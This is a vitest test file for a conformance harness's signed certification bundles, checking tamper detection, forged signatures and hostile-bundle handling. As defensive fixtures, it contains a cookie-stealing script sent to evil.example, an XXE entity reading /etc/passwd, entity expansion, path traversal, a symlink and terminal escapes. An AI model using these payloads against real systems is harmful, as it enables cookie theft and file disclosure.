/**
 * Certification bundles: `run --bundle DIR [--sign-key FILE]` and `verify-bundle DIR
 * [--public-key FILE]`, end to end against runs of the reference server, with and without faults,
 * and against bundles changed afterwards the ways a careless or dishonest submitter would.
 */
import { generateKeyPairSync, type KeyObject } from 'node:crypto';
import { cp, readFile, readdir, rm, symlink, truncate, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { BUNDLE_FILES, MANIFESTED, sha256Of, type Manifest } from '../src/certification/bundle-format.js';
import { keyFingerprint } from '../src/bundle/keys.js';
import { sealBundle } from '../src/bundle/write.js';
import { CHECKS } from '../src/catalogue/index.js';
import { renderHtmlReport } from '../src/report/html.js';
import type { RunReport } from '../src/model/run-report.js';
import { parseRunReport } from '../src/report/read.js';
import { REFERENCE_CLIENT_SECRET, REFERENCE_CLIENT_ID } from '../src/reference/index.js';
import { runAgainst, runBin, runMain, tempDir, type HarnessResult } from './support/harness.js';
import { referenceExpectations } from './support/reports.js';
import { keyPair, type Keys } from './support/keys.js';

const MUST = CHECKS.filter((c) => c.level === 'MUST').length;

let dir: string;
let expectations: string;
let signer: Keys;
let stranger: Keys;

beforeAll(async () => {
  dir = await tempDir('carrier-bundle-');
  expectations = await referenceExpectations(dir);
  signer = await keyPair(dir, 'signer');
  stranger = await keyPair(dir, 'stranger');
});

/** A run of the reference server that writes a bundle, as a third party would submit it. */
async function bundleRun(
  name: string,
  options: Parameters<typeof runAgainst>[0],
  args: readonly string[] = [],
  sign = true,
): Promise<HarnessResult & { bundle: string }> {
  const bundle = join(dir, name);
  const run = await runAgainst({ tokenTtlSeconds: 2, ...options }, [
    '--expectations',
    expectations,
    '--target-name',
    'Acme Carrier API',
    '--target-version',
    '3.2.0',
    '--operator',
    'Acme Ltd',
    '--bundle',
    bundle,
    ...(sign ? ['--sign-key', signer.privatePath] : []),
    ...args,
  ]);
  return { ...run, bundle };
}

async function verify(
  bundle: string,
  ...args: string[]
): Promise<{ code: number; stdout: string; stderr: string; fails: string[] }> {
  const result = await runMain(['verify-bundle', bundle, ...args]);
  const fails = result.stdout
    .split('\n')
    .filter((l) => l.startsWith('  FAIL  '))
    .map((l) => l.slice(8));
  return { ...result, fails };
}

/**
 * Changes a bundle the way a submitter would who has the files (and maybe a key) but not the
 * target: edit files, then recompute the manifest and sign it again with `signWith` if given.
 */
async function forge(
  from: string,
  to: string,
  edit: (files: Map<string, string>) => void,
  signWith?: KeyObject,
): Promise<string> {
  await cp(from, to, { recursive: true });
  const files = new Map<string, string>();
  for (const name of MANIFESTED) files.set(name, await readFile(join(to, name), 'utf8'));
  const before = new Map(files);
  edit(files);
  // A forger has the harness too: an edited report.json gets the page it renders, unless the
  // edit is of the page itself.
  const report = files.get(BUNDLE_FILES.report) ?? '';
  if (report !== before.get(BUNDLE_FILES.report) && files.get(BUNDLE_FILES.html) === before.get(BUNDLE_FILES.html)) {
    try {
      files.set(BUNDLE_FILES.html, renderHtmlReport(parseRunReport(report, BUNDLE_FILES.report)));
    } catch {
      // Not a report the harness can render: the page stays as it was.
    }
  }
  // Sealed as the harness seals (the package is public: a forger has the same tool).
  await sealBundle(to, [...files], signWith);
  return to;
}

function editJson<T>(files: Map<string, string>, name: string, change: (value: T) => void): void {
  const value = JSON.parse(files.get(name) ?? '') as T;
  change(value);
  files.set(name, `${JSON.stringify(value, null, 2)}\n`);
}

describe('a complete, conformant, signed bundle', () => {
  let good: Awaited<ReturnType<typeof bundleRun>>;
  beforeAll(async () => {
    good = await bundleRun('good', {});
  }, 60_000);

  it('is written next to the reports, signed, and holds no secret', async () => {
    expect(good.code).toBe(0);
    expect(good.stdout).toContain(
      `Bundle: ${good.bundle} (signed, Ed25519 key ${keyFingerprint(signer.key)})\n  check it as the platform will: carrier-conformance verify-bundle ${good.bundle} --public-key YOUR-PUBLIC-KEY.pem\n`,
    );
    expect((await readdir(good.bundle)).sort()).toEqual([
      'exchanges.jsonl',
      'junit.xml',
      'manifest.json',
      'report.html',
      'report.json',
      'signature.json',
      'target.json',
    ]);
    const target = JSON.parse(await readFile(join(good.bundle, 'target.json'), 'utf8')) as Record<string, unknown>;
    expect(target).toMatchObject({
      format: 'carrier-conformance-target/1',
      implementation: { name: 'Acme Carrier API', version: '3.2.0', operator: 'Acme Ltd' },
      target: { embedded: false, pagedPaths: good.report.target.pagedPaths },
      harness: { name: 'carrier-conformance', version: good.report.tool.version },
      catalogue: good.report.catalogue,
      options: {
        strict: false,
        suites: [],
        checks: [],
        insecure: false,
        expectations: { file: 'expectations.json', sha256: sha256Of(await readFile(expectations)) },
      },
    });
    expect(good.report.target).toMatchObject({ name: 'Acme Carrier API', version: '3.2.0', operator: 'Acme Ltd' });
    const privatePem = await readFile(signer.privatePath, 'utf8');
    const keyBody = privatePem.split('\n')[1] ?? '';
    for (const name of await readdir(good.bundle)) {
      const text = await readFile(join(good.bundle, name), 'utf8');
      expect(text, name).not.toContain(REFERENCE_CLIENT_SECRET);
      expect(text, name).not.toContain(encodeURIComponent(REFERENCE_CLIENT_SECRET));
      expect(text, name).not.toContain(keyBody);
    }
    expect(await readFile(join(good.bundle, 'target.json'), 'utf8')).not.toContain(REFERENCE_CLIENT_ID);
    // The bundle's reports are the run's reports.
    expect(await readFile(join(good.bundle, 'report.json'), 'utf8')).toBe(
      await readFile(join(good.reportsDir, 'report.json'), 'utf8'),
    );
  });

  it('verifies with the public key (the real executable): every finding printed, exit 0', async () => {
    const result = await runBin(['verify-bundle', good.bundle, '--public-key', signer.publicPath]);
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    const lines = result.stdout.trim().split('\n');
    expect(lines[0]).toBe(`Bundle ${good.bundle}`);
    expect(lines).toEqual(
      expect.arrayContaining([
        '  ok    manifest.json: 5 files, each matches its SHA-256',
        `  ok    signature: Ed25519 signature of manifest.json holds for the key you gave (${keyFingerprint(signer.key)})`,
        `  ok    target.json: Acme Carrier API 3.2.0, operated by Acme Ltd, at ${good.report.target.baseUrl}`,
        expect.stringMatching(
          new RegExp(`^ {2}ok {4}catalogue: the current one \\(sha256:[0-9a-f]{12}…, ${CHECKS.length} checks\\)$`),
        ) as unknown as string,
        `  ok    report.json: ${CHECKS.length} checks, counts and verdict consistent`,
        `  ok    junit.xml: agrees with report.json (${CHECKS.length} test cases, same outcomes)`,
        `  ok    MUST checks: ${MUST} of ${MUST} passed`,
        expect.stringMatching(
          new RegExp(
            `^ {2}ok {4}evidence: \\d+ exchanges recorded \\(\\d+ used by checks\\); of the ${CHECKS.length} passed checks, \\d+ cross-checked against what their exchanges answered`,
          ),
        ) as unknown as string,
      ]),
    );
    expect(lines.at(-1)).toBe('CERTIFIABLE: complete, untampered (signed by the key you gave) and conformant');
  });

  it('without --public-key: never 0, but exit 4 (consistent, signer not proven)', async () => {
    const result = await verify(good.bundle);
    expect(result.code).toBe(4);
    expect(result.stdout).toMatch(
      /note {2}signature: Ed25519 signature holds for the key the bundle carries \(SHA256:[0-9a-f]{64}\); anyone can sign with their own key: give --public-key/,
    );
    expect(result.stdout.trim().split('\n').at(-1)).toBe(
      'SIGNER NOT PROVEN: complete, matching its manifest, and conformant, but no key you trust signed it; give --public-key (exit 4)',
    );
    expect(result.stdout).not.toMatch(/^CERTIFIABLE/m);
  });

  it('forged by someone without the key, unsigned or signed with their own: exit 4 without --public-key, 1 with it', async () => {
    // Every file consistent and conformant: all a forger needs is the harness's output format.
    const unsigned = await forge(good.bundle, join(dir, 'forged-unsigned'), () => undefined);
    const selfSigned = await forge(good.bundle, join(dir, 'forged-self-signed'), () => undefined, stranger.key);
    for (const bundle of [unsigned, selfSigned]) {
      const result = await verify(bundle);
      expect([result.code, result.fails]).toEqual([4, []]);
      expect(result.stdout).toContain('SIGNER NOT PROVEN');
      expect((await verify(bundle, '--public-key', signer.publicPath)).code).toBe(1);
    }
    // The forger's own key proves only that the forger signed it: that is what exit 0 means.
    expect((await verify(selfSigned, '--public-key', stranger.publicPath)).code).toBe(0);
  });

  it('with another key than the signer’s: exit 1', async () => {
    const result = await verify(good.bundle, '--public-key', stranger.publicPath);
    expect(result.code).toBe(1);
    expect(result.fails).toEqual([
      `signature: made with key ${keyFingerprint(signer.key)}, not with the key you trust (${keyFingerprint(stranger.key)})`,
    ]);
  });

  describe('tampered after it was made', () => {
    it('a report edited: the manifest catches it', async () => {
      const bundle = join(dir, 'edited');
      await cp(good.bundle, bundle, { recursive: true });
      const text = await readFile(join(bundle, 'report.json'), 'utf8');
      await writeFile(join(bundle, 'report.json'), text.replace('"verdict": "conformant"', '"verdict": "conformant" '));
      const result = await verify(bundle, '--public-key', signer.publicPath);
      expect(result.code).toBe(1);
      expect(result.fails).toEqual([
        expect.stringMatching(
          /^report\.json: does not match the manifest \(sha256 [0-9a-f]{16}…, \d+ bytes; the manifest says [0-9a-f]{16}…, \d+ bytes\): changed after the bundle was made$/,
        ),
      ]);
      expect(result.stdout).toMatch(/NOT CERTIFIABLE: 1 finding above/);
    });

    it('the manifest recomputed to match: the signature catches it', async () => {
      const bundle = await forge(good.bundle, join(dir, 'remanifested'), (files) =>
        editJson<RunReport>(files, 'report.json', (r) => void (r.target.name = 'Someone Else')),
      );
      // forge() drops the signature it cannot make; put the original back, as a forger would.
      await cp(join(good.bundle, 'signature.json'), join(bundle, 'signature.json'));
      const result = await verify(bundle, '--public-key', signer.publicPath);
      expect(result.code).toBe(1);
      expect(result.fails).toContain(
        `signature: the Ed25519 signature of manifest.json does not hold (key ${keyFingerprint(signer.key)}): the manifest changed after it was signed`,
      );
      expect(result.fails).toContain('target.json: disagrees with report.json on the target name');
    });

    it('re-signed with another key: the key you trust catches it', async () => {
      const bundle = await forge(good.bundle, join(dir, 'resigned'), () => undefined, stranger.key);
      const result = await verify(bundle, '--public-key', signer.publicPath);
      expect(result.fails).toEqual([
        `signature: made with key ${keyFingerprint(stranger.key)}, not with the key you trust (${keyFingerprint(signer.key)})`,
      ]);
      expect(result.code).toBe(1);
    });

    it('report.html with a script and no Content-Security-Policy, re-signed by its signer: not the page report.json renders', async () => {
      const bundle = await forge(
        good.bundle,
        join(dir, 'scripted-page'),
        (files) =>
          files.set(
            'report.html',
            (files.get('report.html') ?? '')
              .replace(/<meta http-equiv="Content-Security-Policy"[^>]*>\n?/, '')
              .replace('<main>', '<main><script>location = "https://evil.example/?" + document.cookie</script>'),
          ),
        stranger.key,
      );
      expect(await readFile(join(bundle, 'report.html'), 'utf8')).not.toContain('Content-Security-Policy');
      const result = await verify(bundle, '--public-key', stranger.publicPath);
      expect(result.code).toBe(1);
      expect(result.fails).toEqual([
        expect.stringMatching(
          /^report\.html: is not the page report\.json renders: line \d+ is "<meta name=.*", where it should be "<meta http-equiv=\\"Content-Security-Policy\\".*"$/,
        ),
      ]);
      // Without the CSP line removed, the first difference is the script's line.
      const scripted = await forge(
        good.bundle,
        join(dir, 'scripted-only'),
        (files) =>
          files.set(
            'report.html',
            (files.get('report.html') ?? '').replace('<main>', '<main><script>alert(1)</script>'),
          ),
        stranger.key,
      );
      const second = await verify(scripted, '--public-key', stranger.publicPath);
      expect(second.fails).toEqual([
        'report.html: is not the page report.json renders: line ' +
          String((await readFile(join(good.bundle, 'report.html'), 'utf8')).split('\n').indexOf('<main>') + 1) +
          ' is "<main><script>alert(1)</script>", where it should be "<main>"',
      ]);
    });

    it('the bundle as written: report.html is byte for byte what report.json renders', async () => {
      const result = await verify(good.bundle, '--public-key', signer.publicPath);
      expect(result.stdout).toContain('  ok    report.html: exactly the page report.json renders');
    });

    it('signature removed: a trusted key requires one', async () => {
      const bundle = join(dir, 'unsigned-copy');
      await cp(good.bundle, bundle, { recursive: true });
      await rm(join(bundle, 'signature.json'));
      const result = await verify(bundle, '--public-key', signer.publicPath);
      expect(result.fails).toEqual([
        `signature: the bundle is not signed, but --public-key was given (key ${keyFingerprint(signer.key)})`,
      ]);
    });
  });
});

describe('bundles that are not certifiable', () => {
  it('a MUST check skipped: listed, exit 1', async () => {
    const run = await bundleRun('skipped', {}, ['--max-expiry-wait', '0'], false);
    expect(run.code).toBe(0); // the run's own verdict lets skips pass; certification does not
    const result = await verify(run.bundle);
    expect(result.code).toBe(1);
    const skipped = run.report.checks.filter((c) => c.level === 'MUST' && c.status === 'skipped').map((c) => c.id);
    // EXPIRY-VALID-BEFORE is judged on the part of the lifetime the run observed (issue 30).
    expect(skipped).toEqual(['EXPIRY-REFUSED-AFTER', 'EXPIRY-RENEW']);
    expect(result.fails).toEqual([
      ...skipped.map(
        (id) =>
          expect.stringMatching(
            new RegExp(
              `^MUST ${id}: skipped: expires_in is 2 s and --max-expiry-wait is 0: not waited out in this run; the expiry job proves it`,
            ),
          ) as unknown as string,
      ),
      `MUST checks: ${MUST - 2} of ${MUST} passed`,
    ]);
    const should = CHECKS.filter((c) => c.level === 'SHOULD').length;
    expect(result.stdout).toContain(
      `note  SHOULD checks: ${should - 2} of ${should} passed (EXPIRY-REFUSED-401 skipped, EXPIRY-INVALID-TOKEN-ERROR skipped)`,
    );
    expect(result.stdout).toMatch(/note {2}signature: the bundle is not signed/);
  });

  it('a MUST check failed (a fault), a subset of the checks, and known failures accepted by a baseline', async () => {
    const faulty = await bundleRun('faulty', { faults: ['wrong-secret-accepted'] }, [
      '--suite',
      'token',
      '--suite',
      'user',
    ]);
    expect(faulty.code).toBe(1);
    const failedResult = await verify(faulty.bundle, '--public-key', signer.publicPath);
    expect(failedResult.code).toBe(1);
    expect(failedResult.fails).toContain(
      'MUST TOKEN-WRONG-SECRET: failed: token request with a wrong client secret: expected 401, got 200 (and 1 more)',
    );
    expect(failedResult.fails).toContain('MUST AUTH-MISSING: missing: not run');
    expect(failedResult.stdout).toMatch(/note {2}target\.json: the run selected a subset of the checks/);

    const baseline = join(dir, 'baseline.json');
    await writeFile(
      baseline,
      JSON.stringify({ failures: [{ check: 'TOKEN-WRONG-SECRET', reason: 'ACME-7: fixed in 3.3' }] }),
    );
    const baselined = await bundleRun('baselined', { faults: ['wrong-secret-accepted'] }, [
      '--suite',
      'token',
      '--baseline',
      baseline,
    ]);
    expect(baselined.code).toBe(0);
    const baselinedResult = await verify(baselined.bundle, '--public-key', signer.publicPath);
    expect(baselinedResult.code).toBe(1);
    expect(baselinedResult.fails).toContain(
      'MUST TOKEN-WRONG-SECRET: failed, accepted by a baseline (ACME-7: fixed in 3.3): token request with a wrong client secret: expected 401, got 200 (and 1 more)',
    );
    expect(baselinedResult.stdout).toMatch(
      /note {2}target\.json: the run had a baseline of known failures \(baseline\.json, 1 entries\)/,
    );
  });

  it('made with another catalogue, or of the embedded reference server', async () => {
    const good = join(dir, 'good');
    const older = await forge(
      good,
      join(dir, 'older-catalogue'),
      (files) => {
        const stale = { digest: `sha256:${'1'.repeat(64)}`, checks: 57, must: 48 };
        editJson<RunReport>(files, 'report.json', (r) => void (r.catalogue = stale));
        editJson<{ catalogue: unknown }>(files, 'target.json', (t) => void (t.catalogue = stale));
      },
      signer.key,
    );
    const result = await verify(older, '--public-key', signer.publicPath);
    expect(result.code).toBe(1);
    expect(result.fails).toEqual([
      expect.stringMatching(
        /^catalogue: made with catalogue sha256:1{64} \(carrier-conformance 0\.1\.0\), not the current one sha256:[0-9a-f]{64} \(carrier-conformance 0\.1\.0\): run the current harness$/,
      ),
    ]);

    const embedded = await forge(
      good,
      join(dir, 'embedded'),
      (files) => {
        editJson<RunReport>(files, 'report.json', (r) => void (r.target.embedded = true));
        editJson<{ target: { embedded: boolean } }>(files, 'target.json', (t) => void (t.target.embedded = true));
      },
      signer.key,
    );
    expect((await verify(embedded, '--public-key', signer.publicPath)).fails).toEqual([
      'target.json: the run tested the embedded reference server that the harness starts itself, not an implementation',
    ]);
  });

  it('a report edited consistently by its own signer: JUnit and JSON disagree', async () => {
    // The submitter holds the key, turns a failure into a pass in report.json with counts and verdict to match, and signs.
    const faulty = join(dir, 'faulty');
    const forged = await forge(
      faulty,
      join(dir, 'forged'),
      (files) => {
        editJson<RunReport>(files, 'report.json', (r) => {
          for (const c of r.checks) {
            if (c.status !== 'passed') {
              c.status = 'passed';
              delete c.message;
              c.findings = [];
            }
          }
          r.counts = { ...r.counts, passed: r.checks.length, failed: 0, warning: 0, error: 0, skipped: 0, expected: 0 };
          // A subset run (--suite): consistent, its verdict is conformant-subset, never plain conformant.
          r.verdict = 'conformant-subset';
          r.exitCode = 0;
        });
        editJson<{ run: { verdict: string } }>(files, 'target.json', (t) => void (t.run.verdict = 'conformant-subset'));
      },
      signer.key,
    );
    const result = await verify(forged, '--public-key', signer.publicPath);
    expect(result.code).toBe(1);
    // Its counts and verdict add up, and the signature holds: only the JUnit gives it away.
    expect(result.stdout).toMatch(/ok {4}report\.json: \d+ checks, counts and verdict consistent/);
    expect(result.stdout).toMatch(/ok {4}signature: Ed25519 signature of manifest\.json holds/);
    expect(result.fails.filter((f) => f.startsWith('junit.xml'))).toEqual([
      'junit.xml: TOKEN-WRONG-SECRET: passed in report.json, failure in junit.xml',
    ]);
  });
});

describe('hostile bundles: clear findings, nothing outside the bundle read, nothing executed', () => {
  it('a manifest that points outside the bundle, an extra file, a link, a DOCTYPE, a huge file', async () => {
    const good = join(dir, 'good');
    const outside = join(dir, 'outside.json');
    await writeFile(outside, await readFile(join(good, 'report.json')));
    const bundle = join(dir, 'hostile');
    await cp(good, bundle, { recursive: true });
    const manifest = JSON.parse(await readFile(join(bundle, 'manifest.json'), 'utf8')) as Manifest;
    const outsideEntry = {
      path: '../outside.json',
      sha256: sha256Of(await readFile(outside)),
      bytes: (await readFile(outside)).length,
    };
    manifest.files = [
      outsideEntry,
      { ...outsideEntry, path: '/etc/passwd' },
      ...manifest.files.filter((f) => f.path !== 'report.json'),
    ];
    await writeFile(join(bundle, 'manifest.json'), JSON.stringify(manifest));
    await writeFile(join(bundle, 'README.txt'), 'certified!');
    await rm(join(bundle, 'report.json'));
    await symlink(outside, join(bundle, 'report.json'));
    await writeFile(
      join(bundle, 'junit.xml'),
      '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><testsuites>&e;</testsuites>',
    );
    await truncate(join(bundle, 'report.html'), 100 * 1024 * 1024);

    const result = await verify(bundle, '--public-key', signer.publicPath);
    expect(result.code).toBe(1);
    expect(result.fails).toEqual(
      expect.arrayContaining([
        'bundle: "README.txt" is not part of a bundle and no manifest covers it',
        'manifest.json: lists "../outside.json", which is not one of the bundle\'s files (report.json, junit.xml, report.html, target.json, exchanges.jsonl): not read',
        'manifest.json: lists "/etc/passwd", which is not one of the bundle\'s files (report.json, junit.xml, report.html, target.json, exchanges.jsonl): not read',
        'manifest.json: does not list report.json',
        'report.json: cannot read it (a symbolic link, refused)',
        expect.stringMatching(/^report\.html: 104857600 bytes, more than the \d+ a report can be/) as unknown as string,
        expect.stringMatching(/^signature: the Ed25519 signature of manifest\.json does not hold/) as unknown as string,
        'conformance: not judged: report.json could not be read',
      ]),
    );
    expect(result.stderr).toBe('');
  });

  it('a DOCTYPE in junit.xml is refused, never expanded', async () => {
    const bundle = await forge(join(dir, 'good'), join(dir, 'doctype'), (files) =>
      files.set(
        'junit.xml',
        `<?xml version="1.0"?>\n<!DOCTYPE t [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>\n${files.get('junit.xml')?.replace(/^<\?xml[^>]*>\n?/, '') ?? ''}`,
      ),
    );
    const result = await verify(bundle);
    expect(result.fails).toEqual([
      expect.stringMatching(
        /^junit\.xml: not well-formed JUnit XML: a DOCTYPE or other declaration at offset \d+: refused/,
      ),
    ]);
  });

  it('markup and terminal escapes in the bundle are printed as text', async () => {
    const bundle = await forge(join(dir, 'good'), join(dir, 'escapes'), (files) => {
      editJson<RunReport>(
        files,
        'report.json',
        (r) => void (r.target.name = '<b>Evil</b>\u001b[2J\u001b]0;pwned\u0007'),
      );
      editJson<{ implementation: { name: string } }>(
        files,
        'target.json',
        (t) => void (t.implementation.name = '<b>Evil</b>\u001b[2J\u001b]0;pwned\u0007'),
      );
    });
    const result = await verify(bundle);
    expect(result.code).toBe(4);
    expect(result.stdout).toContain('target.json: <b>Evil</b>[2J]0;pwned 3.2.0');
    expect(
      [...result.stdout].filter((c) => c !== '\n' && (c.charCodeAt(0) < 0x20 || c.charCodeAt(0) === 0x7f)),
    ).toEqual([]);
  });
});

describe('bad options: one line, exit 2, before anything runs', () => {
  it.each([
    [
      ['run', '--sign-key', 'key.pem'],
      /^carrier-conformance: --sign-key needs --bundle DIR: it signs a certification bundle$/,
    ],
    [
      ['run', '--bundle', '{dir}/with-files', '--check', 'USER-OK'],
      /^carrier-conformance: --bundle .*with-files: holds files that are not a bundle's \(notes\.txt\); give a new or empty directory, or an earlier bundle \(which is replaced\)$/,
    ],
    [
      ['run', '--bundle', '{dir}/b1', '--sign-key', '{dir}/missing.pem'],
      /^carrier-conformance: --sign-key .*missing\.pem: cannot read it \(no such file\)$/,
    ],
    [
      ['run', '--bundle', '{dir}/b2', '--sign-key', '{dir}/rsa.pem'],
      /^carrier-conformance: --sign-key .*rsa\.pem: an rsa key; bundles are signed with Ed25519/,
    ],
    [
      ['run', '--bundle', '{dir}/b3', '--sign-key', '{dir}/encrypted.pem'],
      /^carrier-conformance: --sign-key .*encrypted\.pem: the key is encrypted; give an unencrypted PKCS#8 PEM key/,
    ],
    [
      ['run', '--bundle', '{dir}/b4', '--sign-key', '{dir}/signer.pub.pem'],
      /^carrier-conformance: --sign-key .*signer\.pub\.pem: not a PKCS#8 PEM private key/,
    ],
    [
      ['run', '--target-name', 'two\nlines'],
      /^carrier-conformance: --target-name: must be one line without control characters$/,
    ],
    [
      ['verify-bundle', '{dir}/nowhere'],
      /^carrier-conformance: verify-bundle .*nowhere: no such directory; give the folder or the .tar.gz `run --bundle` wrote$/,
    ],
    [['verify-bundle', '{dir}/signer.pem'], /^carrier-conformance: verify-bundle .*signer\.pem: not a directory/],
    [
      ['verify-bundle', '{dir}', '--public-key', '{dir}/signer.pem'],
      /^carrier-conformance: --public-key .*signer\.pem: this is a private key; give the public one/,
    ],
    [
      ['verify-bundle', '{dir}', '--public-key', '{dir}/rsa.pub.pem'],
      /^carrier-conformance: --public-key .*rsa\.pub\.pem: an rsa key, not Ed25519$/,
    ],
    [
      ['verify-bundle', '{dir}', '--public-key', '{dir}/baseline.json'],
      /^carrier-conformance: --public-key .*baseline\.json: not a PEM public key/,
    ],
  ])('%j', async (args, message) => {
    const rsa = generateKeyPairSync('rsa', { modulusLength: 1024 });
    await writeFile(join(dir, 'rsa.pem'), rsa.privateKey.export({ type: 'pkcs8', format: 'pem' }));
    await writeFile(join(dir, 'rsa.pub.pem'), rsa.publicKey.export({ type: 'spki', format: 'pem' }));
    await writeFile(
      join(dir, 'encrypted.pem'),
      signer.key.export({ type: 'pkcs8', format: 'pem', cipher: 'aes-256-cbc', passphrase: 'x' }),
    );
    await writeFile(join(dir, 'baseline.json'), '{}');
    await cp(join(dir, 'expectations.json'), join(dir, 'with-files', 'notes.txt'));
    // A run names its target (--embedded): in CI a run without --base-url is itself a usage error.
    const argv = args.map((a) => a.replace('{dir}', dir));
    const result = await runMain(argv[0] === 'run' ? [...argv, '--embedded'] : argv);
    expect(result.code).toBe(2);
    const lines = result.stderr.trim().split('\n');
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(message);
    // No key material is echoed (a PEM body is a long Base64 run).
    expect(result.stderr).not.toMatch(/[A-Za-z0-9+/]{40,}/);
    expect(result.stdout).toBe('');
  });
});
